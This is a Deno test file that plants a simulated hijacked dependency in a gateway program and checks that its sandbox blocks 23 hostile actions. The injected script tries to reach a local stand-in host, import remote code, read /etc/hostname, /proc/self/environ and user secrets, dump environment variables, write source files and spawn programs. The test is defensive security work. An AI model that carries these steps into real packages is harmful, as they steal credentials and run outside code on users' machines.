import { assertEquals } from "@std/assert";
import { copy } from "../support/copy.ts";
import { withFolder, withLaunched } from "../support/process.ts";

const ROOT = new URL("../../", import.meta.url);

/** What a dependency does that was taken over. Each deed that succeeds is named on stdout. */
const MALICE = `
const deeds = {
  fetch: () => fetch("http://127.0.0.1:PORT/stolen"),
  connect: () => Deno.connect({ hostname: "127.0.0.1", port: PORT }),
  "another port to listen on": () => Deno.listen({ hostname: "127.0.0.1", port: 1 }),
  "a name": () => Deno.resolveDns("stolen.test", "A"),
  "code of a host": () => import("http://127.0.0.1:" + "PORT/code.js"),
  "code of a usual host": () => import("https://raw.githubusercontent.com/" + "a/b/c.js"),
  "code of a registry": () => import("npm:is-odd" + "@1.0.0"),
  "a worker": async () => {
    const worker = new Worker("http://127.0.0.1:PORT/code.js", { type: "module" });
    await new Promise((resolve, reject) => { worker.onmessage = resolve; worker.onerror = (event) => { event.preventDefault(); reject(); }; });
  },
  "a file of the system": () => Deno.readTextFile("/etc/hostname"),
  "a file of the user": () => Deno.readTextFile("FOLDER/home/secret"),
  "a folder": () => Array.fromAsync(Deno.readDir("FOLDER")),
  "a file as code": () => import("FOLDER/home/" + "secret.json", { with: { type: "json" } }),
  "the environment": () => Deno.env.toObject(),
  "a variable": () => { if (!Deno.env.get("OTHER_SECRET")) throw new Error(); },
  "a variable by node": () => { if (!process.env.OTHER_SECRET) throw new Error(); },
  "the process's own": () => Deno.readTextFile("/proc/self/environ"),
  "writing": () => Deno.writeTextFile("FOLDER/written", "x"),
  "writing the configuration": () => Deno.writeTextFile("FOLDER/gateway.json", "{}"),
  "writing the code": () => Deno.writeTextFile(new URL("src/written.ts", import.meta.url), "x"),
  "a program": () => new Deno.Command("true").output(),
  "a library": () => Deno.dlopen("libc.so.6", {}),
  "the system": () => Deno.hostname(),
  "asking for more": async () => { if ((await Deno.permissions.request({ name: "run" })).state !== "granted") throw new Error(); },
};
const done = [];
for (const [name, deed] of Object.entries(deeds)) {
  try { await deed(); done.push(name); } catch {}
}
console.error("DONE " + JSON.stringify({ tried: Object.keys(deeds).length, done }) + ";");
`;

Deno.test({
  name:
    "a dependency that was taken over reaches no host, file, variable or program outside the list, and all is served",
  ignore: Deno.build.os === "windows",
  async fn() {
    await withFolder(async (folder) => {
      let visits = 0;
      const outside = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, () => {
        visits++;
        return new Response("postMessage(1)", { headers: { "content-type": "text/javascript" } });
      });
      try {
        const manifest = JSON.parse(await Deno.readTextFile(new URL("deno.json", ROOT)));
        const real = manifest.imports["eventsource-parser"];
        const evil = MALICE.replaceAll("PORT", String(outside.addr.port)).replaceAll("FOLDER", folder);
        const program = `${folder}/program`;
        await Deno.mkdir(`${folder}/home`);
        await Deno.writeTextFile(`${folder}/home/secret`, "x");
        await Deno.writeTextFile(`${folder}/home/secret.json`, "{}");
        for (const part of ["src", "plugins"]) await copy(new URL(part, ROOT).pathname, `${program}/${part}`);
        for (const file of ["deno.lock", "gateway.default.json"]) {
          await Deno.copyFile(new URL(file, ROOT), `${program}/${file}`);
        }
        await Deno.writeTextFile(`${program}/evil.js`, `export * from "${real}";\n${evil}`);
        manifest.imports["eventsource-parser"] = "./evil.js";
        await Deno.writeTextFile(`${program}/deno.json`, JSON.stringify({ ...manifest, lock: { frozen: false } }));
        await Deno.writeTextFile(
          `${folder}/gateway.json`,
          JSON.stringify({ extends: "default", store: { path: `${folder}/store.sqlite3` } }),
        );
        const options = { root: new URL(`file://${program}/`), cwd: folder, env: { OTHER_SECRET: "x" } };
        await withLaunched([], options, async ({ url, said }) => {
          const [, report] = (await said("DONE ")).match(/DONE (.*);/)!;
          assertEquals(JSON.parse(report!), { tried: 23, done: [] });
          const response = await fetch(`${url}/oss/v1/chat/completions`, {
            method: "POST",
            headers: { "content-type": "application/json" },
            body: JSON.stringify({ model: "sandbox", messages: [{ role: "user", content: "Hello" }] }),
          });
          assertEquals([response.status, (await response.json()).model], [200, "sandbox"]);
        });
        assertEquals(visits, 0);
      } finally {
        await outside.shutdown();
      }
    });
  },
});
